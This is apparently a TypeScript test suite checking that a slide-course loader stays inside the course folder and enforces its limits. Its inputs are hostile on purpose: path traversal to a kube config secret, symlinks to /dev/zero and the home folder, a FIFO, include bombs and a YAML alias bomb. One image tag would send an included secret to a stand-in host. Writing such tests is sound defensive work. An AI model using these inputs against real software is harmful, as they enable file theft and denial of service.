// A course is untrusted input: what the engine reads is confined to the course, and every
// limit holds, whatever the files say.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { execFileSync } from 'node:child_process';
import { loadCourse } from '../../src/course/load';
import { findCourseRoot } from '../../src/course/confine';
import { LIMITS } from '../../src/course/source';
import { MAX_MANIFEST_NODES } from '../../src/course/manifest';
import { MAX_LABS_PER_SLIDE } from '../../src/course/scan';
import type { Course } from '../../src/course/model';
import { memoryFs, ROOT, SLIDES, type MemoryFs } from './helpers/memoryCourse';

const DECK = path.join(SLIDES, 'deck.yml');
const SECRET = '/home/u/.kube/config';
const SECRET_TEXT = 'access_token: s3cr3t';

function load(files: Record<string, string | Uint8Array>, links: Record<string, string> = {}, special: string[] = []): { course: Course; fs: MemoryFs } {
  const fs = memoryFs({ [SECRET]: SECRET_TEXT, ...files }, links, special);
  return { course: loadCourse(DECK, fs), fs };
}

function outside(course: Course) {
  return course.problems.filter((p) => /outside the course/.test(p.message));
}

function text(course: Course): string {
  return course.parts.flatMap((p) => p.chapters.flatMap((c) => c.slides.flatMap((s) => s.increments))).join('\n');
}

function assertNothingOutsideRead(fs: MemoryFs): void {
  for (const read of fs.reads) assert.ok(read.startsWith(ROOT + '/'), `read ${read}`);
}

test('the course root is the nearest folder with .git, else the manifest folder parent, never home or /', () => {
  const disk = memoryFs({ '/r/.git/HEAD': 'x', '/r/a/slides/deck.yml': '' });
  assert.equal(findCourseRoot('/r/a/slides', disk, '/home/u'), '/r');
  assert.equal(findCourseRoot('/x/slides', memoryFs({ '/x/slides/d.yml': '' }), '/home/u'), '/x');
  // A dotfiles repository in the home folder does not make the home folder the root.
  const home = memoryFs({ '/home/u/.git/HEAD': 'x', '/home/u/work/slides/d.yml': '' });
  assert.equal(findCourseRoot('/home/u/work/slides', home, '/home/u'), '/home/u/work');
  assert.equal(findCourseRoot('/home/u/slides', memoryFs({ '/home/u/slides/d.yml': '' }), '/home/u'), '/home/u/slides');
  assert.equal(findCourseRoot('/slides', memoryFs({ '/slides/d.yml': '' }), '/home/u'), '/slides');
});

test('content entries outside the course or absolute are refused with file, line and "outside the course"', () => {
  const { course, fs } = load({ 'deck.yml': 'content:\n- ../../home/u/.kube/config\n- /home/u/.kube/config\n- ok.md\n', 'ok.md': '# Fine' });
  const problems = outside(course);
  assert.deepEqual(problems.map((p) => [p.file, p.line, p.severity]), [['deck.yml', 2, 'error'], ['deck.yml', 3, 'error']]);
  assert.doesNotMatch(text(course), /s3cr3t/);
  assert.deepEqual(course.parts[0].chapters.map((c) => c.title), ['Fine']);
  assertNothingOutsideRead(fs);
});

test('@@INCLUDE of a file outside the course is refused, so an image URL cannot carry it away', () => {
  const chapter = '# Slide\n\n<img src="https://example.invalid/?c=@@INCLUDE[../home/u/.kube/config]">\n\n@@INCLUDE[/home/u/.kube/config]\n';
  const { course, fs } = load({ 'deck.yml': 'content:\n- a.md\n', 'a.md': chapter });
  assert.deepEqual(outside(course).map((p) => [p.file, p.line]), [['a.md', 3], ['a.md', 5]]);
  assert.doesNotMatch(text(course), /s3cr3t/);
  assertNothingOutsideRead(fs);
});

test('symlinks that lead out of the course are refused; those that stay inside are followed', () => {
  const { course, fs } = load(
    { 'deck.yml': 'content:\n- evil.md\n- good.md\n- sub/inc.md\n', 'real.md': '# Real', 'sub/inc.md': '# Inc\n@@INCLUDE[slides/kube]\n' },
    { 'evil.md': SECRET, 'good.md': 'real.md', 'kube': SECRET },
  );
  assert.deepEqual(outside(course).map((p) => [p.file, p.line]), [['deck.yml', 2], ['sub/inc.md', 2]]);
  assert.match(outside(course)[0].message, /links elsewhere/);
  assert.deepEqual(course.parts[0].chapters.map((c) => c.title), ['Real', 'Inc']);
  assert.doesNotMatch(text(course), /s3cr3t/);
  assertNothingOutsideRead(fs);
});

test('only regular files are read: devices and FIFOs inside the course are refused before reading', () => {
  const { course, fs } = load({ 'deck.yml': 'content:\n- zero\n- fifo.md\n- ok.md\n', 'ok.md': '# Fine' }, { zero: 'dev/zero' }, ['dev/zero', 'fifo.md']);
  assert.deepEqual(course.problems.map((p) => [p.line, p.message]), [[2, 'zero: not a regular file'], [3, 'fifo.md: not a regular file']]);
  assert.deepEqual(fs.reads.filter((r) => !r.endsWith('deck.yml') && !r.endsWith('ok.md')), []);
});

test('on disk: /dev/zero, a symlink to it and a FIFO never block or flood the loader', { skip: process.platform === 'win32' }, () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'hostile-'));
  try {
    fs.mkdirSync(path.join(dir, '.git'));
    fs.mkdirSync(path.join(dir, 'slides'));
    fs.symlinkSync('/dev/zero', path.join(dir, 'slides', 'zero.md'));
    fs.symlinkSync(os.homedir(), path.join(dir, 'slides', 'home'));
    execFileSync('mkfifo', [path.join(dir, 'slides', 'fifo.md')]);
    fs.writeFileSync(path.join(dir, 'slides', 'ok.md'), '# Fine\n@@INCLUDE[slides/home/.bashrc]\n');
    fs.writeFileSync(path.join(dir, 'slides', 'deck.yml'), 'content:\n- /dev/zero\n- zero.md\n- fifo.md\n- ok.md\n');
    const course = loadCourse(path.join(dir, 'slides', 'deck.yml'));
    assert.equal(course.root, dir);
    assert.deepEqual(course.problems.map((p) => p.line), [2, 3, 4, 2]);
    assert.match(course.problems[0].message, /absolute paths are not allowed \(outside the course\)/);
    assert.match(course.problems[1].message, /outside the course/);
    assert.match(course.problems[2].message, /not a regular file/);
    assert.match(course.problems[3].message, /outside the course/);
    assert.deepEqual(course.parts[0].chapters.map((c) => c.title), ['Fine']);
  } finally {
    fs.rmSync(dir, { recursive: true, force: true });
  }
});

test('a chapter that includes itself five times stops at once, with a problem per include', () => {
  const { course, fs } = load({ 'deck.yml': 'content:\n- a.md\n', 'a.md': '# A\n' + '@@INCLUDE[slides/a.md]\n'.repeat(5) });
  assert.equal(course.problems.filter((p) => /includes itself/.test(p.message)).length, 5);
  assert.ok(fs.reads.length <= 3, `${fs.reads.length} reads`);
});

test('includes have a budget: count, depth and bytes', () => {
  // Each level includes the next one five times: 5^8 includes without a budget.
  const files: Record<string, string> = { 'deck.yml': 'content:\n- l0.md\n', 'l0.md': '# L\n' + '@@INCLUDE[slides/l1.md]\n'.repeat(5) };
  for (let i = 1; i < 9; i++) files[`l${i}.md`] = `line ${i}\n` + `@@INCLUDE[slides/l${i + 1}.md]\n`.repeat(5);
  files['l9.md'] = 'bottom';
  const { course, fs } = load(files);
  assert.ok(fs.reads.length <= LIMITS.includes + 2, `${fs.reads.length} reads`);
  assert.ok(course.problems.some((p) => new RegExp(`more than ${LIMITS.includes} includes`).test(p.message)));
  assert.ok(course.problems.some((p) => new RegExp(`nested more than ${LIMITS.includeDepth} deep`).test(p.message)));

  const big = 'x'.repeat(3 * 1024 * 1024);
  const many: Record<string, string> = { 'deck.yml': 'content:\n' + Array.from({ length: 12 }, (_, i) => `- b${i}.md\n`).join('') };
  for (let i = 0; i < 12; i++) many[`b${i}.md`] = `# B${i}\n${big}`;
  const bytes = load(many).course;
  assert.ok(bytes.problems.some((p) => /larger than 32 MB in all/.test(p.message)));
  assert.equal(bytes.parts[0].chapters.length, 10);
});

test('the manifest entry budget holds', () => {
  const entries = Array.from({ length: LIMITS.manifestEntries + 50 }, () => '- a.md').join('\n');
  const { course, fs } = load({ 'deck.yml': `content:\n${entries}\n`, 'a.md': 'text' });
  assert.ok(course.problems.some((p) => /more than 2000 entries/.test(p.message)));
  assert.equal(fs.reads.filter((r) => r.endsWith('a.md')).length, LIMITS.manifestEntries);
});

test('a YAML alias bomb of under 400 bytes (9^7 entries) is refused without being expanded', () => {
  const bomb = fs.readFileSync(path.join(__dirname, '..', 'fixtures', 'hostile', 'alias-bomb.yml'), 'utf8');
  assert.ok(bomb.length < 400);
  const { course, fs: memory } = load({ 'deck.yml': bomb, 'x.md': '# X' });
  assert.match(course.problems[0].message, new RegExp(`more than ${MAX_MANIFEST_NODES} values`));
  assert.equal(memory.reads.length, 1);
});

test('a content entry of another type is described, never printed', () => {
  const { course } = load({ 'deck.yml': 'content:\n- token: s3cr3t-value\n- ok.md\n', 'ok.md': '# Fine' });
  const problem = course.problems.find((p) => /content entries must be/.test(p.message));
  assert.match(problem!.message, /found a mapping$/);
  assert.doesNotMatch(JSON.stringify(course.problems), /s3cr3t/);
});

test('20,000 labs in one slide: the first 100 can run, each with its own fence, and the rest is reported', () => {
  const labs = Array.from({ length: 20000 }, (_, i) => `.lab[\`\`\`bash echo ${i}\`\`\`]`).join('\n');
  const { course } = load({ 'deck.yml': 'content:\n- a.md\n', 'a.md': `# Labs\n${labs}\n` });
  const slide = course.parts[0].chapters[0].slides[0];
  assert.equal(slide.labs.length, MAX_LABS_PER_SLIDE);
  assert.deepEqual(slide.labs.map((l) => l.snippets[0].data), Array.from({ length: MAX_LABS_PER_SLIDE }, (_, i) => `echo ${i}`));
  assert.deepEqual(course.problems.map((p) => [p.file, p.line, p.message]), [
    ['a.md', 102, 'more than 100 labs in one slide: the rest cannot run'],
    ['a.md', LIMITS.slideLines + 1, `more than ${LIMITS.slideLines} lines in one slide: this line and the rest of the slide are not shown`],
  ]);
});

test('a lab nested in a lab leaves its fences to the outer one, as before', () => {
  const { course } = load({ 'deck.yml': 'content:\n- a.md\n', 'a.md': '# A\n.lab[```bash one```\n.lab[```bash two```]\n```bash three```]\n.lab[```bash four```]\n' });
  const labs = course.parts[0].chapters[0].slides[0].labs;
  assert.deepEqual(labs.map((l) => l.snippets.map((s) => s.data)), [['one', 'two', 'three'], [], ['four']]);
});
